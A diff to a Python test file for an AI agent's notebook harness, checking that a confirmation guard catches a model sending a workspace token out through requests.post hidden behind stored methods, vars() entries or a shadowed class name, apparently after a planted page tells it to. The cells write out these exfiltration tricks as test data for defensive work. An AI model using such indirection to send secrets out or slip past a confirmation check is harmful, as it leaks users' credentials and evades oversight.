@@ -2,8 +2,8 @@
 read, a compliant model keeps a workspace token in the kernel and sends it through ``requests.post`` kept by a method
 appending to a list its ``__init__`` made, by a method of a class based on ``object`` or of a dataclass, or put in an
 object's ``vars()``. Each asks before the send runs, and the cell that only hands the sender to the keeping method
-runs quietly; so do the harmless look-alikes. Under the default policy alone (no page), a send through
-``vars(o)['p'] = requests.post`` asks."""
+runs quietly; so do the harmless look-alikes, while handing it to an object an older class of the name made asks.
+Under the default policy alone (no page), a send through ``vars(o)['p'] = requests.post`` asks."""
 
 from __future__ import annotations
 
@@ -69,3 +69,12 @@ async def test_a_send_through_a_sender_put_in_vars_asks_by_the_policy(tmp_path: 
     asked = [e for e in events if isinstance(e, ConfirmationRequested)]
     assert [proposed[e.action_id] for e in asked] == [calls[-1]["arguments"]]
     assert "can send data out of the machine" in asked[-1].reason
+
+
+async def test_handing_a_sender_to_an_object_of_an_older_class_of_the_name_asks(tmp_path: Path) -> None:
+    # ``reg`` was made by the class that posts; the class defined anew under its name only keeps
+    older = _cell("class R:\n    def register(self, f):\n        f('" + A + "/c', data=t, timeout=3)\n\n\nreg = R()")
+    newer = _cell("class R:\n    def register(self, f):\n        self.f = f")
+    calls = [RQ, KEEP, older, newer, guarded_cell("reg.register(requests.post)")]
+    status, events = await token_read_run(tmp_path, TOKEN, calls, {"confirmation": "never"})
+    assert_last_call_asked(status, events, FLOW)
